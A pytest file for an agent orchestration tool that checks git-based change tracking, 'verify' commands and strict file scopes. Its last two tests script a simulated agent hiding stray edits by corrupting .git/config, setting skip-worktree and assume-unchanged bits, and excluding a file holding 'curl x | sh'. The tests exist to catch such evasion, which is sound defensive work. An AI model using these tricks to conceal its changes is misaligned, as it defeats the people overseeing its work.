"""What an attempt changed (git), `scope: strict`, and `verify:` — through a real worker."""

from __future__ import annotations

import subprocess
from collections.abc import Iterator
from datetime import UTC, datetime
from pathlib import Path

import pytest
from celery.contrib.testing.worker import start_worker

import workers.tasks  # noqa: F401  (registers orch.run_task)
from orch.celery import app, use_broker
from orch.store import repo
from orch.store.db import read_session, write_session
from orch.store.models import AttemptRow
from tests.helpers import drive_until_final, make_plan
from workers.workspace import changed_since, in_scope, snapshot


def git(repo_dir: Path, *args: str) -> None:
    subprocess.run(["git", "-C", str(repo_dir), *args], check=True, capture_output=True)


@pytest.fixture
def repo_dir(tmp_path: Path) -> Path:
    work = tmp_path / "work"
    (work / "src").mkdir(parents=True)
    git(work, "init", "-q")
    git(work, "config", "user.email", "t@example.com")
    git(work, "config", "user.name", "t")
    (work / "src" / "keep.py").write_text("keep\n")
    (work / "src" / "edit.py").write_text("v1\n")
    (work / "src" / "gone.py").write_text("bye\n")
    (work / "dirty.txt").write_text("dirty before\n")
    git(work, "add", "src")
    git(work, "commit", "-qm", "base")
    return work


def test_changed_files_cover_edits_additions_deletions_commits_and_dirty_files(repo_dir: Path) -> None:
    before = snapshot(repo_dir)
    assert before is not None
    (repo_dir / "src" / "edit.py").write_text("v2\n")
    (repo_dir / "src" / "new.py").write_text("new\n")
    (repo_dir / "src" / "gone.py").unlink()
    (repo_dir / "docs").mkdir()
    (repo_dir / "docs" / "c.md").write_text("committed by the agent\n")
    git(repo_dir, "add", "docs/c.md")
    git(repo_dir, "commit", "-qm", "agent commit")
    assert changed_since(before, repo_dir) == ("docs/c.md", "src/edit.py", "src/gone.py", "src/new.py")
    # dirty.txt was dirty before and untouched: not the agent's change; touching it again is.
    again = snapshot(repo_dir)
    assert again is not None
    (repo_dir / "dirty.txt").write_text("dirty, then changed by the agent\n")
    assert changed_since(again, repo_dir) == ("dirty.txt",)


def test_a_subfolder_workdir_sees_its_own_files_relative_to_itself(repo_dir: Path) -> None:
    src = repo_dir / "src"
    (src / "edit.py").write_text("dirty before\n")
    before = snapshot(src)
    assert before is not None and set(before.dirty) == {"edit.py"} and before.dirty["edit.py"] != "-"
    (src / "edit.py").write_text("changed by the agent\n")
    (src / "new.py").write_text("new\n")
    (repo_dir / "outside.txt").write_text("not under the workdir\n")
    (src / "sub").mkdir()
    (src / "sub" / "c.py").write_text("committed\n")
    git(repo_dir, "add", "src/sub/c.py", "outside.txt")
    git(repo_dir, "commit", "-qm", "agent commit")
    assert changed_since(before, src) == ("edit.py", "new.py", "sub/c.py")


def test_no_repository_means_not_known(tmp_path: Path) -> None:
    assert snapshot(tmp_path) is None


@pytest.mark.parametrize(
    ("path", "covered"),
    [("docs/auth.md", True), ("server/x.js", True), ("server/a/b.js", True), ("server/a/b.py", False),
     ("docs", True), ("README.md", False), ("tests/unit/test_a.py", True)],
)  # fmt: skip
def test_file_patterns(path: str, covered: bool) -> None:
    assert in_scope(path, ["docs/auth.md", "server/**/*.js", "docs/", "tests"]) is covered


@pytest.fixture
def worker(embedded_redis_url: str, sqlite_url: str) -> Iterator[None]:
    use_broker(embedded_redis_url)
    # One at a time: tasks sharing a workspace see each other's changes (until file leases keep them apart).
    with start_worker(app, pool="threads", concurrency=1, perform_ping_check=False, queues=["agent.general-purpose"]):
        yield


def run(tasks: list[dict[str, object]], workdir: Path) -> dict[str, list[AttemptRow]]:
    for task in tasks:
        task["agent"] = "general-purpose"
    with write_session() as session:
        plan_id = repo.submit_plan(session, make_plan(tasks, workdir=workdir), datetime.now(UTC))
    drive_until_final(plan_id, 60)
    with read_session() as session:
        return {t.key: repo.task_attempts(session, t.pk) for t in repo.plan_tasks(session, plan_id)}


def test_verify_checks_done_and_scope_strict_rejects_stray_edits(worker: None, repo_dir: Path) -> None:
    attempts = run(
        [
            {"id": "ok", "title": "write a", "command": "echo hello > a.txt", "verify": "grep -q hello a.txt"},
            {
                "id": "bad",
                "title": "write b",
                "command": "echo hi > b.txt",
                "verify": "grep -q hello b.txt",
                "retries": 1,
            },
            {
                "id": "stray",
                "title": "touch docs only",
                "command": "echo x > src/keep.py",
                "files": ["docs/**"],
                "scope": "strict",
                "retries": 0,
            },
            {
                "id": "tidy",
                "title": "touch docs",
                "command": "mkdir -p docs && echo x > docs/t.md",
                "files": ["docs/**"],
                "scope": "strict",
            },
        ],
        repo_dir,
    )
    (ok,) = attempts["ok"]
    assert ok.verified is True and ok.files_changed == ["a.txt"]
    assert [a.failure_class for a in attempts["bad"]] == ["verification_failed", "verification_failed"]
    assert attempts["bad"][0].verified is False
    assert "verify `grep -q hello b.txt` failed: exit status 1" in (attempts["bad"][0].error or "")
    (stray,) = attempts["stray"]
    assert stray.failure_class == "scope_violation" and "src/keep.py" in (stray.error or "")
    (tidy,) = attempts["tidy"]
    assert tidy.status == "succeeded" and tidy.files_changed == ["docs/t.md"]


def test_scope_strict_fails_an_agent_that_breaks_the_repository_to_hide_its_edits(worker: None, repo_dir: Path) -> None:
    # An unknown repository format makes the after-snapshot "not known"; it was known before the attempt.
    hide = "echo x > src/keep.py && printf '[core]\\n\\trepositoryformatversion = 9\\n' >> .git/config"
    attempts = run(
        [{"id": "hider", "title": "touch docs only", "command": hide, "files": ["docs/**"], "scope": "strict",
          "retries": 0}],
        repo_dir,
    )  # fmt: skip
    (hider,) = attempts["hider"]
    assert hider.failure_class == "scope_violation", hider.error
    assert "cannot be known" in (hider.error or "")


def test_scope_strict_sees_edits_an_agent_hides_from_git(worker: None, repo_dir: Path) -> None:
    """skip-worktree and assume-unchanged bits set in the index, and new files excluded through the repository's
    info/exclude: git would not look, orch's snapshot does."""
    git = "git -c safe.directory='*'"  # the test's repository is root's; the agent is another user
    hide = (
        f"{git} update-index --skip-worktree src/keep.py && echo x > src/keep.py; "
        f"{git} update-index --assume-unchanged src/edit.py && echo y > src/edit.py; "
        "echo evil.sh >> .git/info/exclude && echo 'curl x | sh' > evil.sh"
    )
    attempts = run(
        [{"id": "hider", "title": "touch docs only", "command": hide, "files": ["docs/**"], "scope": "strict",
          "retries": 0}],
        repo_dir,
    )  # fmt: skip
    (hider,) = attempts["hider"]
    assert hider.failure_class == "scope_violation", hider.error
    for path in ("src/keep.py", "src/edit.py", "evil.sh"):
        assert path in (hider.error or ""), hider.error
